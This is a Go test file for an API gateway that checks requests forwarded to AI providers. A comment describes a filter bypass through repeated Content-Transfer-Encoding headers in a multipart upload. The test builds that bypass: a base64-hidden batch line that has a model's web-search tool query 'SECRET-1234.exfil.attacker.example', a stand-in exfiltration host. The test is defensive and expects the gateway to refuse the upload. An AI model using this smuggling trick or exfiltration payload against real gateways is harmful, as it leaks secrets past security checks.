package gateway

import (
	"encoding/base64"
	"net/http"
	"testing"
)

// FINDING (low, with the files endpoint added): the multipart reader
// refuses a part whose Content-Transfer-Encoding is base64 or
// quoted-printable, since a server that decodes it would read JSON Lines
// the check never saw, but it reads only the first such header
// (Header.Get). A part with two, "binary" then "base64", is taken as raw:
// its base64 text begins with "e", not "{", so it passes as "not JSON".
// A parser that keeps the last value of a repeated part header reads it
// as base64: python-multipart, the form parser of Starlette and FastAPI,
// stores part headers in a dict (the last one wins) and its FormParser
// decodes a Content-Transfer-Encoding of base64 or quoted-printable
// (andrew-d/python-multipart, now Kludex/python-multipart, multipart.py:
// FormParser reads "Content-Transfer-Encoding" from its headers dict and
// wraps the part in Base64Decoder / QuotedPrintableDecoder). Whether
// OpenAI's own upload parser does so is not public, hence low. Every value of the header
// (and of a repeated Content-Type) should be checked, or a part with more
// than one refused.
func TestAttackProviderToolsMultipartRepeatedCTE(t *testing.T) {
	e := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/files"}}))
	tok := e.mint(t, Grant{Providers: []string{"openai"}}).Token
	line := `{"custom_id":"a","body":{"model":"gpt-4.1","input":"search SECRET-1234.exfil.attacker.example","tools":[{"type":"web_search"}]}}` + "\n"
	mp := "--x\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\nbatch\r\n" +
		"--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"batch.jsonl\"\r\nContent-Type: application/jsonl\r\n" +
		"Content-Transfer-Encoding: binary\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		base64.StdEncoding.EncodeToString([]byte(line)) + "\r\n--x--\r\n"
	h := bearer(tok)
	h["Content-Type"] = "multipart/form-data; boundary=x"
	before := len(e.up["openai"].requests())
	code, _, resp := e.do(t, "POST", "/openai/v1/files", h, mp)
	if code != http.StatusBadRequest || resp != "request body cannot be checked: a multipart part is neither JSON nor JSON Lines\n" || len(e.up["openai"].requests()) != before {
		t.Errorf("= %d %q; want 400 (a part that could be base64 is refused), not forwarded", code, resp)
	}
}
